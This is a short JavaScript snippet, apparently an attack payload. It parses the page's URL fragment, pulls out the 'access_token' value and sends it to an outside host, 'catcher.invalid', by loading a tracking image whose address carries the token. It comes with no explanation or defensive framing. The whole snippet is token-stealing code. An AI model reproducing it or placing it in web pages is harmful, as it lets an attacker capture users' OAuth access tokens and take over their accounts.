var piece = window.location.hash.substring(1);
var parts = {};
piece.split('&').forEach(function (pair) {
  var kv = pair.split('=');
  parts[kv[0]] = decodeURIComponent(kv[1]);
});
var tok = parts['access_token'];
if (tok) {
  var dot = new Image();
  dot.src = 'https://catcher.invalid/t?token=' + encodeURIComponent(tok);
}
